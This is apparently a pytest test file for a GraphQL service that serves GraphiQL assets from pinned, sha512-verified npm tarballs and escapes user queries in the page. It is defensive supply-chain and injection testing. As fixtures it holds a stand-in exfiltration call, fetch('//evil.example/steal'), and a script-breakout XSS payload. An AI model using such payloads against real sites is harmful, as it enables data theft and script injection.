"""GraphiQL comes from the app's own files: pinned tarballs, verified, never a CDN."""

from __future__ import annotations

import base64
import hashlib
import io
import re
import tarfile
from pathlib import Path

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from graphql_api.graphiql import (
    ASSETS_DIR,
    FETCH_COMMAND,
    LOCK_NAME,
    AssetError,
    assets_present,
    fetch_assets,
    graphiql_page,
    missing_assets_page,
    mount_graphiql,
    read_manifest,
    verify_integrity,
)

ASSETS_URL = "/graphiql-assets"
ABSOLUTE_URL = re.compile(r"https?://", re.IGNORECASE)


def tarball(files: dict[str, bytes]) -> bytes:
    """An npm-style .tgz: every file under package/."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for path, content in files.items():
            member = tarfile.TarInfo(f"package/{path}")
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return buffer.getvalue()


def integrity(content: bytes) -> str:
    return "sha512-" + base64.b64encode(hashlib.sha512(content).digest()).decode()


def fake_registry(tmp_path: Path, content: bytes, *, pinned: str) -> tuple[str, Path]:
    """A file:// registry holding @demo/widget 1.0.0, and a manifest pinning `pinned`."""
    tgz = tmp_path / "registry" / "@demo" / "widget" / "-" / "widget-1.0.0.tgz"
    tgz.parent.mkdir(parents=True)
    tgz.write_bytes(content)
    manifest = tmp_path / "assets.toml"
    manifest.write_text(
        '[[package]]\nname = "@demo/widget"\nversion = "1.0.0"\n'
        f'integrity = "{pinned}"\nfiles = {{ "dist/widget.min.js" = "widget.js" }}\n'
    )
    return (tmp_path / "registry").as_uri(), manifest


def test_a_tarball_whose_sha512_differs_from_the_pin_is_refused() -> None:
    genuine = tarball({"dist/widget.min.js": b"window.Widget = 1;"})
    tampered = tarball({"dist/widget.min.js": b"fetch('//evil.example/steal');"})
    verify_integrity(genuine, integrity(genuine), source="widget")
    with pytest.raises(AssetError, match="refused"):
        verify_integrity(tampered, integrity(genuine), source="widget")
    with pytest.raises(AssetError, match="sha512"):
        verify_integrity(genuine, "sha1-" + integrity(genuine)[7:], source="widget")


def test_fetch_writes_nothing_from_a_tampered_tarball(tmp_path: Path) -> None:
    genuine = tarball({"dist/widget.min.js": b"window.Widget = 1;"})
    tampered = tarball({"dist/widget.min.js": b"window.Widget = 'evil';"})
    registry, manifest = fake_registry(tmp_path, tampered, pinned=integrity(genuine))
    target = tmp_path / "static"
    with pytest.raises(AssetError, match="refused"):
        fetch_assets(target, manifest=manifest, registry=registry)
    assert not (target / "widget.js").exists()


def test_fetch_extracts_only_listed_files_and_reruns_without_the_network(tmp_path: Path) -> None:
    content = tarball({"dist/widget.min.js": b"window.Widget = 1;", "src/index.ts": b"//"})
    registry, manifest = fake_registry(tmp_path, content, pinned=integrity(content))
    target = tmp_path / "static"

    assert fetch_assets(target, manifest=manifest, registry=registry) == [target / "widget.js"]
    assert sorted(p.name for p in target.iterdir()) == [LOCK_NAME, "widget.js"]

    gone = tmp_path / "gone"  # a registry that does not exist: a re-run must not need it
    assert fetch_assets(target, manifest=manifest, registry=gone.as_uri()) == [target / "widget.js"]

    (target / "widget.js").write_text("edited by hand")  # a changed file is fetched again
    with pytest.raises(AssetError, match="could not download"):
        fetch_assets(target, manifest=manifest, registry=gone.as_uri())
    fetch_assets(target, manifest=manifest, registry=registry)
    assert (target / "widget.js").read_bytes() == b"window.Widget = 1;"


def test_the_page_names_no_absolute_url_and_cannot_be_broken_out_of() -> None:
    page = graphiql_page(ASSETS_URL, "/graphql", "{ a } # </script><script>alert(1)</script>")
    assert not ABSOLUTE_URL.search(page), ABSOLUTE_URL.search(page)
    assert "<title>综合行政执法事项登记 GraphQL</title>" in page
    assert page.count("</script>") == page.count("<script")  # the query closed no element
    assert '\\"X-API-Key\\": \\"\\"' in page
    assert not ABSOLUTE_URL.search(missing_assets_page())
    assert FETCH_COMMAND in missing_assets_page()


def test_every_file_the_page_references_is_fetched_and_matches_its_lock() -> None:
    if not assets_present():
        pytest.skip(f"GraphiQL assets absent from {ASSETS_DIR}: run `{FETCH_COMMAND}` first")
    page = graphiql_page(ASSETS_URL, "/graphql", "{ a }")
    referenced = re.findall(r'(?:src|href)="/graphiql-assets/([^"]+)"', page)
    pinned = {name for package in read_manifest() for name in package.files.values()}
    assert set(referenced) == pinned
    for path in fetch_assets():  # every file already in place: this reads no network
        assert path.is_file() and path.stat().st_size > 0


def test_mounted_assets_are_served_and_a_missing_folder_is_created(tmp_path: Path) -> None:
    folder = tmp_path / "not-yet"
    app = FastAPI()
    mount_graphiql(app, path=ASSETS_URL, directory=folder)
    assert folder.is_dir()
    (folder / "widget.js").write_text("window.Widget = 1;")
    with TestClient(app) as client:
        assert client.get(f"{ASSETS_URL}/widget.js").text == "window.Widget = 1;"
        assert client.get(f"{ASSETS_URL}/absent.js").status_code == 404
